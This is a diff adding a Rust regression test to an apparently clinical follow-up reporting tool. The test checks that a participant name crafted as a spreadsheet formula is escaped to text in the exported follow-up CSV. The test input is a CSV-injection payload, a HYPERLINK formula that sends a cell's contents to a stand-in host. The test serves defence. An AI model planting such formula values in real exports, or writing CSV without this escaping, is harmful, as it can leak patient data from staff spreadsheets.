@@ -971,3 +971,48 @@ fn templates_dump_never_writes_through_a_link() {
         "written into the link's target"
     );
 }
+
+/// The clinician follow-up list's CSV carries each participant's name from `profile.yaml`: a
+/// name that begins like a spreadsheet formula was written raw (`=HYPERLINK(…)` ran when the
+/// nurse opened `followup.csv`), the one CSV that did not go through the guarded writer.
+#[test]
+fn a_name_written_as_a_formula_reaches_the_followup_csv_as_text() {
+    let t = ProgramTest::sample();
+    let yaml = t.dir.join("program.yaml");
+    let text = std::fs::read_to_string(&yaml).unwrap();
+    std::fs::write(
+        &yaml,
+        format!("{text}\nfollowup:\n  recipient: \"Nurse\"\n"),
+    )
+    .unwrap();
+    // SG-010 is flagged (low intake) in the sample's September.
+    set_profile_line(
+        &t,
+        "SG-010",
+        "name",
+        r#"name: "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")""#,
+    );
+    let o = out(&t);
+    let r = t.run(&[
+        "run",
+        "{dir}",
+        "--as-of",
+        AS_OF,
+        "--formats",
+        "html",
+        "--out",
+        &o,
+    ]);
+    assert_eq!(r.code, 4, "{}", r.stderr);
+    let mut rd = csv::Reader::from_path(Path::new(&o).join("followup/followup.csv")).unwrap();
+    let names: Vec<String> = rd
+        .records()
+        .map(|r| r.unwrap())
+        .filter(|r| &r[0] == "SG-010")
+        .map(|r| r[1].to_string())
+        .collect();
+    assert!(!names.is_empty(), "SG-010 is on the list");
+    for n in names {
+        assert_eq!(n, r#"'=HYPERLINK("http://x.example/?"&A1,"open")"#);
+    }
+}
